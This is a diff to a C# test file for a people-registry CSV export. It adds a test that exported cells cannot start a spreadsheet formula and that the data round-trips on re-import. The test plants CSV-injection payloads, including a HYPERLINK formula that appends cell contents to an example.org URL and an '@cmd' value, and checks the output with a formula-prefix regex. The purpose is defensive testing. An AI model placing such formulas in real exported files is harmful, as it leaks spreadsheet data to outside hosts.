@@ -1,5 +1,8 @@
+using System.Text.RegularExpressions;
 using EnvoyRegistry.Commands;
+using EnvoyRegistry.Data;
 using EnvoyRegistry.Tests.Data;
+using Microsoft.EntityFrameworkCore;
 
 namespace EnvoyRegistry.Tests.Commands;
 
@@ -38,14 +41,39 @@ public sealed class PeopleExportTests : IDisposable
         var sheet = Sheet.People(Sheet.Person("Ünï-1; \"2\"",
             (PersonColumn.FullName, "Ma. \"Lina\" Reyes-O'Brien, Jr."),
             (PersonColumn.FormerOffices, @"OTHER:Head of unit\; section 3: talks;OTHER:C:\\drive"),
-            (PersonColumn.Biography, "- one\n- two; \"three\", four\n\n\\five")));
+            (PersonColumn.Biography, "'- one\n'- two; \"three\", four\n\n\\five")));
         _desk.Imported(sheet);
+        _desk.Person("Ünï-1; \"2\"").Biography.ShouldBe("- one\n- two; \"three\", four\n\n\\five");
 
         _desk.Export("out.csv");
 
         File.ReadAllText(_desk.Path("out.csv")).ShouldBe(sheet);
         _desk.Person("Ünï-1; \"2\"").FormerOffices.OrderBy(o => o.Position).Select(o => o.Title).ShouldBe(
             ["Head of unit; section 3: talks", @"C:\drive"]);
+    }
+
+    [Fact]
+    public void No_cell_begins_a_formula_and_every_cell_comes_back()
+    {
+        const string Formula = "=HYPERLINK(\"http://example.org/\"&A1,\"Zaleha\")";
+        _desk.Imported(Sheet.People(Sheet.Person("A")), Sheet.Windows(Sheet.Window("A", "2027-01-01", "2027-01-31")));
+        using (var db = _desk.Register.Open())
+        {
+            db.Database.ExecuteSql($"""
+                UPDATE "Person" SET "ExternalReference" = {Formula}, "FullName" = {Formula}, "Title" = {"@cmd"},
+                    "NativeName" = {"＝1+1"}, "Biography" = {"+one;=two\n-three, \"=four\""}
+                WHERE "ExternalReference" = {"A"}
+                """);
+            db.RefreshDerivedRows();
+        }
+
+        _desk.Export("out.csv", "windows.csv");
+
+        var (people, windows) = (File.ReadAllText(_desk.Path("out.csv")), File.ReadAllText(_desk.Path("windows.csv")));
+        foreach (var text in (string[])[people, windows])
+            Regex.IsMatch(text, "(^|[,;\\t|\\r\\n])[\\s\"]*[=+@＝-]").ShouldBeFalse(text);
+        _desk.ImportFiles("out.csv", "windows.csv")
+            .ShouldBe(new ImportCounts(New: 0, Changed: 0, Unchanged: 1, PeopleWithOtherWindows: 0));
     }
 
     [Fact]
